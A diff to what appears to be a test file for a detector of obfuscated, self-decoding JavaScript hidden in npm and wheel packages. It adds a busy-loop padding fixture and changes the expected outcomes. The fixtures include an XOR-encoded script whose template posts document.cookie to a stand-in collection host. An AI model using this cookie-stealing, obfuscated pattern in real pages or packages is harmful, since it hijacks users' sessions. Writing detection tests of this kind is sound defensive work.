@@ -59,6 +59,8 @@ fetch(place, {method: 'POST', body: document.cookie});
 """
 PLACE = "https://collect.example.invalid/"
 PAGE = DECODES % ", ".join(str(ord(one) ^ 3) for one in PLACE)
+BUSY = "for (var j = 0; j < 9000; j++) { var other = j; }\n"
+"""More than is run to its end in a file that may decode no more than any other one."""
 LONG = "/* " + "a library of pages " * 1500 + "*/\n"
 
 
@@ -74,7 +76,8 @@ def sent(form: str, text: str) -> list[Flow]:
         ("npm", LONG + PAGE, True),
         ("wheel", PAGE, True),
         ("wheel", LONG + PAGE + "eval(place);", True),
-        ("wheel", LONG + PAGE, False),
+        ("wheel", LONG + PAGE, True),
+        ("wheel", LONG + BUSY + PAGE, False),
     ],
 )
 def test_a_large_script_of_a_page_decodes_only_if_it_executes(
